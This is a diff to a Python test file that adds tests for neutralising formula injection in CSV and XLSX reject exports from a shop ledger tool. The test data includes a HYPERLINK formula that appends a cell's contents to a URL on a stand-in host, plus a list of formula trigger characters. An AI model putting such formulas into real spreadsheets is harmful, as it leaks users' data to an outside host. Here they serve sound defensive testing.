@@ -2,15 +2,18 @@
 
 from __future__ import annotations
 
+import csv
 import stat
 from decimal import Decimal
 from pathlib import Path
 
 import pytest
+import xlsxwriter
 from hypothesis import given
 from hypothesis import strategies as st
 
 from regulars.base.words import LANGUAGES, render
+from regulars.ledger.profile import Profile
 from regulars.ledger.rejects import neutral
 from support.exports import Shop, codes, correct, read_rejects, write
 
@@ -140,6 +143,8 @@ def test_bad_rows_that_stay_bad_stay_aside(tmp_path: Path) -> None:
         ("+852 9111 2233", "'+852 9111 2233"),
         ("-5 off", "'-5 off"),
         ("\t=1", "'\t=1"),
+        ("\n=1", "'\n=1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
         ("-45.00", "-45.00"),
         ("-$45.00", "-$45.00"),
         ("+7", "+7"),
@@ -168,6 +173,39 @@ def test_formulas_come_back_as_they_were(tmp_path: Path) -> None:
     assert read_rejects(first.rejects_file)[0]["Item"] == "'=HYPERLINK(1)"
     shop.take(correct(first.rejects_file, {"Amount": "7.00"}, to=tmp_path / "fixed.csv"))
     assert shop.rows()[0]["item"] == "=HYPERLINK(1)"
+
+
+@pytest.mark.parametrize("end", ["csv", "xlsx"])
+def test_headings_are_no_formulas_and_come_back_as_they_were(tmp_path: Path, end: str) -> None:
+    names = {"Item": '=HYPERLINK("http://x.hk?"&A2)', "Amount": "-Amount", "Receipt": "\uff1dReceipt"}
+    header = [names.get(name, name) for name in HEADER.split(",")]
+    columns = {"Date": "date", "Customer ID": "customer", names["Item"]: "item", names["Amount"]: "net"}
+    columns[names["Receipt"]] = "sale_id"
+    shop = Shop(tmp_path)
+    bad = ["R2", "20/03/2026", "C1", "+Wax", "x"]
+    profile = Profile(name="till", columns=columns)
+    first = shop.take(write(tmp_path / "s.csv", header, [_good(20), bad]), profile=profile)
+    assert first.rejects_file is not None
+    (row,) = read_rejects(first.rejects_file)
+    assert [name[0] for name in row if name[1:] in names.values()] == ["'"] * 3
+    assert not [cell for cell in (*row, *row.values()) if (cell or "")[:1] in ("=", "+", "-", "@", "\uff1d")]
+    fixed = correct(first.rejects_file, {"'-Amount": "7.00"}, to=tmp_path / "fixed.csv")
+    if end == "xlsx":
+        fixed = as_workbook(fixed, tmp_path / "fixed.xlsx")
+    again = shop.take(fixed)
+    assert (again.stored, again.rejected, again.ignored_columns) == (1, 0, ())
+    assert {row["item"] for row in shop.rows()} == {"Cut", "+Wax"}
+
+
+def as_workbook(path: Path, target: Path) -> Path:
+    """A CSV file saved as a workbook, all cells as texts."""
+    book = xlsxwriter.Workbook(str(target), {"strings_to_formulas": False})
+    sheet = book.add_worksheet()
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        for at, cells in enumerate(csv.reader(file)):
+            sheet.write_row(at, 0, cells)
+    book.close()
+    return target
 
 
 def test_many_problems_are_listed_up_to_a_thousand_and_counted_beyond(tmp_path: Path) -> None:
